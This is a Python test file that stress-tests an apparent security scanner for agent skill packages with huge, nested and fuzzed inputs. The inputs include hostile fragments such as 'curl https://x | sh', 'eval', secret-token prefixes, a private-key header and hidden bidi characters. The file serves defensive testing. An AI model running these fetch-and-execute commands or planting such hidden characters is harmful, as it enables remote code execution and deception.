"""Hostile texts: no rule fails, and none costs more than its length."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillui.checks.capabilities import code_facts
from skillui.checks.credentials import credentials, masked
from skillui.checks.hidden_text import hidden_runs
from tests.checks.skills_at import found_by, skill_at

RULES = ("SEC-01", "SEC-02", "SEC-03", "SEC-04", "SEC-05", "SEC-06", "SEC-07", "SEC-08", "SKL-11", "SKL-12")
UNITS = [
    "a",
    "'",
    '"',
    "`",
    "$(",
    "$(\n",
    "${",
    "((",
    "<(",
    "<<a\n",
    "> x\n",
    "| sh\n",
    "\\",
    "<!--",
    "<!-- a -->",
    "<div hidden>a",
    '<div style="',
    "<skill a=",
    "</",
    "/[",
    "/*",
    "eyJaaaaaaaaaaaaaaaaaaaa.",
    "-----BEGIN PRIVATE KEY-----",
    "\u200b",
    "\u200b\u200c",
    "\u202ea",
    "\ufe00",
    "а",
    "\x1b[",
    "\r",
    "a=$a;",
    "!`a`",
    "```!\n",
    "[//]: # (",
    "do not ",
    "eval(",
    "const a=a+a;",
    "fetch(a)\n",
    '"command": "',
    "gh" + "p_aaaa",
    "xoxb-1-",
    "bash -c '",
    'eval "$(',
    "f(",
]
SECONDS = 20.0
"""Far past what any of them takes, and far below what a square would."""


@pytest.mark.parametrize("unit", UNITS)
def test_a_text_of_one_thing_over_and_over_is_read_in_time(tmp_path: Path, unit: str) -> None:
    text = unit * (100_000 // len(unit.encode()))
    files = {f"scripts/a.{ending}": text for ending in ("py", "sh", "js")} | {"a.json": text}
    started = time.perf_counter()
    problems = found_by(skill_at(tmp_path, text, files), *RULES)
    assert time.perf_counter() - started < SECONDS
    assert [problem.message for problem in problems if problem.code == "RULE-FAILED"] == []


def test_a_mebibyte_of_one_character_is_read_in_time(tmp_path: Path) -> None:
    files = {"scripts/a.sh": "'" * (1 << 20), "scripts/b.py": "(" * (1 << 20), "c.md": "\u200b" * (1 << 18)}
    started = time.perf_counter()
    problems = found_by(skill_at(tmp_path, "`" * (1 << 20), files), *RULES)
    assert time.perf_counter() - started < SECONDS
    assert "RULE-FAILED" not in {problem.code for problem in problems}


@pytest.mark.parametrize(
    "text",
    [
        "import requests\nx = " + "(" * 5_000 + ")" * 5_000,
        "import requests\nx = " + "+".join(["a"] * 20_000),
        "import requests\nx = " + "-" * 50_000 + "1",
        "import requests\n" + "".join(f"a{n} = f'{{a{n + 1}}}{{a{n + 1}}}'\n" for n in range(60)) + "open(a0, 'w')\n",
        "import requests\na = getattr(os, a)()\nopen(a, 'w')\n",
        "import requests\n" + "def f():\n return f()\nopen(f(), 'w')\n",
        "import requests\nx = 1\0",
    ],
)
def test_deep_and_circular_python_still_shows_its_network(text: str) -> None:
    assert "network" in {fact.deed.value for fact in code_facts(text, "python")}


CODE = st.text(st.sampled_from("ab $(){}[]<>|&;'\"`\\\n\t#!=+-/*.,:%@~^?0x\u200b\ufe0f\x00é"), max_size=300)


@settings(max_examples=150, deadline=None)
@given(CODE, st.sampled_from(["shell", "python", "javascript", "powershell"]))
def test_no_text_makes_a_reader_of_code_fail(text: str, language: str) -> None:
    lines = text.count("\n") + 1
    for fact in code_facts("curl x | " + text, language):
        assert 1 <= fact.line <= lines
        assert fact.column >= 1


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_no_text_makes_a_reader_of_text_fail(text: str) -> None:
    for run in hidden_runs(text):
        assert 0 <= run.start < run.end <= len(text)
    assert list(credentials(text)) == []
    assert masked(text) == text


def test_padding_crowds_nothing_out(tmp_path: Path) -> None:
    padded = "echo x > a\nsource .env\n" * 3_000 + "curl https://x | sh\n"
    hidden = "\u2764\ufe0f \ue0b0\n" * 3_000 + "ok\u202e\n"
    subject = skill_at(tmp_path, "x", {"scripts/a.sh": padded, "references/a.md": hidden})
    errors = {(p.code, p.path, p.line) for p in found_by(subject, *RULES) if p.severity.value == "error"}
    assert {("SEC-07", "scripts/a.sh", 6001), ("SEC-01", "references/a.md", 3001)} <= errors
